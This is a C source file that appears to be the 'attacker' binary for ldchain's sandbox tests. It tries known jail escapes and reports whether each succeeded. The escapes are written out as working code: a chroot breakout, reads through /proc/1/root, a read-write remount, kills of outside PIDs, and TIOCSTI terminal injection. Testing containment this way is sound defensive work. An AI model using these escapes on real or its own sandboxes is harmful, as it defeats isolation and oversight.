/* The attacker for ldchain's sandbox tests: tries one way out of the jail
 * and reports "WHAT: ok ..." when it got out, "WHAT: failed (ERROR)" when
 * it did not. Built static, so it runs in any jail.
 * Usage: escape COMMAND [ARGS...]
 *   read PATH...      read each PATH directly
 *   write PATH...     create (or append to) each PATH and write a line
 *   stat PATH...      print each PATH's mode (octal), uid and gid (lstat)
 *   chroot PATH       mkdir x; chroot x; chdir .. x256; chroot .; read PATH
 *   proc PATH         read /proc/1/root/PATH and /proc/PPID/root/PATH
 *   remount DIR       remount DIR read-write, then create DIR/escape-file
 *   kill PID          look for /proc/PID, then kill(PID, SIGKILL)
 *   fd N NAME         read NAME relative to descriptor N (openat)
 *   tty               print the session; push a byte into fd 0's and
 *                     /dev/tty's input with TIOCSTI
 *   id                print uid, euid, gid, groups, the capability sets
 *                     and no_new_privs
 *   cat PATH          print PATH whole
 *   cwd               print the working directory */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

static void report_read(const char *what, int dirfd, const char *path) {
    int fd = openat(dirfd, path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) { printf("%s: failed (%s)\n", what, strerror(errno)); return; }
    char buf[256];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n < 0) { printf("%s: failed (%s)\n", what, strerror(errno)); return; }
    buf[n] = 0;
    char *nl = strchr(buf, '\n');
    if (nl) *nl = 0;
    printf("%s: ok %s\n", what, buf);
}

static int chroot_escape(const char *path) {
    if (chdir("/tmp") && chdir("/")) { printf("chroot: failed (chdir: %s)\n", strerror(errno)); return 0; }
    mkdir("escape-x", 0700);
    if (chroot("escape-x")) { printf("chroot: failed (%s)\n", strerror(errno)); return 0; }
    for (int i = 0; i < 256; i++) if (chdir("..")) break;
    if (chroot(".")) { printf("chroot: failed (second chroot: %s)\n", strerror(errno)); return 0; }
    report_read("chroot", AT_FDCWD, path);
    return 0;
}

static int remount(const char *dir) {
    if (mount(NULL, dir, NULL, MS_REMOUNT | MS_BIND, NULL))
        printf("remount: failed (%s)\n", strerror(errno));
    else
        printf("remount: ok\n");
    char file[4096];
    snprintf(file, sizeof file, "%s/escape-file", dir);
    int fd = open(file, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    if (fd < 0 || write(fd, "x", 1) != 1) { printf("write: failed (%s)\n", strerror(errno)); return 0; }
    close(fd);
    printf("write: ok\n");
    return 0;
}

static int kill_pid(const char *pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s", pid);
    printf("proc: %s\n", access(path, F_OK) == 0 ? "ok visible" : "failed (not there)");
    if (kill(atoi(pid), SIGKILL)) printf("kill: failed (%s)\n", strerror(errno));
    else printf("kill: ok\n");
    return 0;
}

static void report_write(const char *path) {
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (fd < 0 || write(fd, "written\n", 8) != 8) { printf("write %s: failed (%s)\n", path, strerror(errno)); return; }
    close(fd);
    printf("write %s: ok\n", path);
}

static void report_stat(const char *path) {
    struct stat st;
    if (lstat(path, &st)) { printf("stat %s: failed (%s)\n", path, strerror(errno)); return; }
    printf("stat %s: mode=%o ino=%lu:%lu uid=%d gid=%d\n", path, (unsigned)(st.st_mode & 07777),
           (unsigned long)st.st_dev, (unsigned long)st.st_ino, (int)st.st_uid, (int)st.st_gid);
}

static void sti(const char *what, int fd) {
    char c = '#';
    if (fd < 0) { printf("%s: failed (%s)\n", what, strerror(errno)); return; }
    if (ioctl(fd, TIOCSTI, &c)) printf("%s: failed (%s)\n", what, strerror(errno));
    else printf("%s: ok\n", what);
}

static int tty(void) {
    printf("sid=%d pid=%d\n", (int)getsid(0), (int)getpid());
    sti("tiocsti-stdin", 0);
    sti("tiocsti-devtty", open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC));
    return 0;
}

static int id(void) {
    char buf[4096];
    int fd = open("/proc/self/status", O_RDONLY | O_CLOEXEC);
    ssize_t n = fd < 0 ? 0 : read(fd, buf, sizeof buf - 1);
    buf[n > 0 ? n : 0] = 0;
    printf("uid=%d euid=%d nnp=%d\n", (int)getuid(), (int)geteuid(), prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
    gid_t groups[256];
    int ng = getgroups(256, groups);
    printf("gid=%d egid=%d groups=", (int)getgid(), (int)getegid());
    for (int i = 0; i < ng; i++) printf(i ? ",%d" : "%d", (int)groups[i]);
    printf("\n");
    for (char *l = strtok(buf, "\n"); l; l = strtok(NULL, "\n"))
        if (!strncmp(l, "Cap", 3)) printf("%s\n", l);
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc < 2) return 64;
    const char *cmd = argv[1];
    if (!strcmp(cmd, "read") && argc >= 3) {
        for (int i = 2; i < argc; i++) report_read("read", AT_FDCWD, argv[i]);
        return 0;
    }
    if (!strcmp(cmd, "stat") && argc >= 3) {
        for (int i = 2; i < argc; i++) report_stat(argv[i]);
        return 0;
    }
    if (!strcmp(cmd, "write") && argc >= 3) {
        for (int i = 2; i < argc; i++) report_write(argv[i]);
        return 0;
    }
    if (!strcmp(cmd, "chroot") && argc == 3) return chroot_escape(argv[2]);
    if (!strcmp(cmd, "proc") && argc == 3) {
        char p[4096];
        snprintf(p, sizeof p, "/proc/1/root%s", argv[2]);
        report_read("proc1", AT_FDCWD, p);
        snprintf(p, sizeof p, "/proc/%d/root%s", (int)getppid(), argv[2]);
        report_read("procppid", AT_FDCWD, p);
        return 0;
    }
    if (!strcmp(cmd, "remount") && argc == 3) return remount(argv[2]);
    if (!strcmp(cmd, "kill") && argc == 3) return kill_pid(argv[2]);
    if (!strcmp(cmd, "fd") && argc == 4) { report_read("fd", atoi(argv[2]), argv[3]); return 0; }
    if (!strcmp(cmd, "tty")) return tty();
    if (!strcmp(cmd, "id")) return id();
    if (!strcmp(cmd, "cat") && argc == 3) {
        int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
        if (fd < 0) { printf("cat: failed (%s)\n", strerror(errno)); return 0; }
        char buf[4096];
        ssize_t n;
        while ((n = read(fd, buf, sizeof buf)) > 0) fwrite(buf, 1, (size_t)n, stdout);
        return 0;
    }
    if (!strcmp(cmd, "cwd")) {
        char buf[4096];
        printf("cwd: %s\n", getcwd(buf, sizeof buf) ? buf : strerror(errno));
        return 0;
    }
    fprintf(stderr, "escape: unknown command\n");
    return 64;
}
